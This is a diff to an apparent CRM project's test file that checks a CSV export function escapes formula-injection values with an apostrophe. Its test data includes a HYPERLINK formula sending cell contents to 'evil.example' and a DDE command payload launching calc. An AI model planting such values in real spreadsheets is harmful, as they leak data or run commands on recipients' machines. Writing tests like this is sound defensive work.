@@ -16,6 +16,7 @@ from tests.builders import settings_records, valid_records, write_records
 from xlcrm import schema
 from xlcrm.checks.consent import persons
 from xlcrm.cli.main import cli
+from xlcrm.export.mailing import csv_cell
 from xlcrm.jobs.demo import create_demo
 from xlcrm.jobs.export import export_workbook
 from xlcrm.xlsx.reader import read_workbook
@@ -188,3 +189,14 @@ def test_text_that_would_start_a_formula_stays_text_in_every_list(tmp_path: Path
         texts = [text for row in read_csv(written[name]) for text in row]
         assert """'=HYPERLINK("http://evil.example/?"&A1,"click")""" in texts and "'@SUM(1+1)" in texts, name
         assert "+7 916 123-45-67" in texts and "Olga Sidorova" in texts, name
+
+
+def test_a_csv_cell_gets_an_apostrophe_only_where_a_spreadsheet_would_run_it() -> None:
+    """Names, companies and phones that start with + - @ but are no formula reach the mailing service as typed."""
+    kept = ["@Home", "-Ольга-", "+7 916 123-45-67", "+7(916)123-45-67", "+ 7 916 123", "Olga"]
+    assert [csv_cell(text) for text in kept] == kept
+    assert [csv_cell(text) for text in ("=1+2 Ltd", "@SUM(1+1)", "+cmd|' /C calc'!A0")] == [
+        "'=1+2 Ltd",
+        "'@SUM(1+1)",
+        "'+cmd|' /C calc'!A0",
+    ]
